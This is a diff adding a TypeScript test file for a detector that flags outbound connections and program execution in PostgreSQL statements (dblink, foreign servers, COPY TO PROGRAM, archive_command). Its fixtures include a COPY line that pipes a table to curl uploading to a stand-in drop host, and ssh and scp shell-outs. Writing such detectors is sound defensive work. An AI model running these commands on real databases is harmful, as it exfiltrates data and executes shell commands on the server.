@@ -1,0 +1,74 @@
+import fc from 'fast-check'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { type SqlPivot, SqlPivots } from './pivots.ts'
+
+let pivots: SqlPivots
+beforeAll(async () => {
+  pivots = await SqlPivots.load()
+})
+
+function said(pivot: SqlPivot): string {
+  if (pivot.kind === 'program') return `program ${pivot.command}`
+  const { by, account, password, host, port, database } = pivot
+  return `${by} ${account ?? ''}:${password ?? ''}@${host ?? ''}:${port ?? ''}/${database ?? ''}`
+}
+
+describe('SqlPivots', () => {
+  it.each<[string, string[]]>([
+    [
+      "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.internal', port '5433', dbname 'orders')",
+      ['server :@db.internal:5433/orders'],
+    ],
+    ["ALTER SERVER s OPTIONS (SET host 'other.internal')", ['server :@other.internal:/']],
+    ["CREATE USER MAPPING FOR app SERVER s OPTIONS (user 'app', password 'hunter2')", ['user-mapping app:hunter2@:/']],
+    ["SELECT * FROM dblink('host=db user=app password=p', 'SELECT 1') AS t(a int)", ['dblink app:p@db:/']],
+    ["SELECT public.dblink_connect('c', 'postgresql://u:p@h:5433/d')", ['dblink u:p@h:5433/d']],
+    ["WITH x AS (SELECT dblink_exec('host=deep', 'DELETE FROM t')) SELECT * FROM x", ['dblink :@deep:/']],
+    ["CREATE SUBSCRIPTION s CONNECTION 'host=db user=rep' PUBLICATION p", ['subscription rep:@db:/']],
+    ["COPY orders TO PROGRAM 'curl -T - http://drop.example/'", ['program curl -T - http://drop.example/']],
+    ['COPY t FROM PROGRAM $$ssh host id$$', ['program ssh host id']],
+    ["ALTER SYSTEM SET archive_command = 'scp %p h:/x'", ['program scp %p h:/x']],
+    ["SELECT 1; SELECT dblink('host=a', 'x'); COPY t TO PROGRAM 'b'", ['dblink :@a:/', 'program b']],
+    ["SELECT 'COPY t TO PROGRAM ''x'''", []],
+    ["COPY t TO '/tmp/program'", []],
+    ['SELECT * FROM server', []],
+    ['CREATE SERVER nonsense (', []],
+    ["SELECT dblink('SELECT 1')", []],
+  ])('reads %s', (text, found) => expect(pivots.in(text).map(said)).toEqual(found)) // prettier-ignore
+
+  it('says where a value stands, in UTF-16 units', () => {
+    const text = "SELECT 'é😀', dblink('host=db', 'x')"
+    expect(pivots.in(text).map(({ offset }) => text.slice(offset, offset + 9))).toEqual(["'host=db'"])
+  })
+
+  it('is bounded, and never throws', () => {
+    const deep = `SELECT dblink(${'('.repeat(20_000)}'host=a'${')'.repeat(20_000)}, 'x')`
+    expect(pivots.in(deep).length).toBeLessThanOrEqual(1)
+    expect(pivots.in(`SELECT ${Array.from({ length: 200 }, (_, n) => `dblink('host=h${n}', 'x')`).join(', ')}`)).toHaveLength(64)
+    expect(pivots.in(`SELECT dblink('host=a\0b', 'x')`)).toEqual([])
+    const word = fc.constantFrom(
+      'dblink',
+      'SERVER',
+      'CREATE',
+      'COPY',
+      'PROGRAM',
+      't',
+      "'",
+      '$$',
+      '(',
+      ')',
+      ',',
+      'OPTIONS',
+      'host',
+      'SELECT',
+      'é',
+      ';',
+    )
+    fc.assert(
+      fc.property(fc.array(word, { maxLength: 20 }), (words) => {
+        expect(pivots.in(words.join(' ')).length).toBeLessThanOrEqual(64)
+      }),
+      { numRuns: 10_000, seed: 2026 },
+    )
+  })
+})
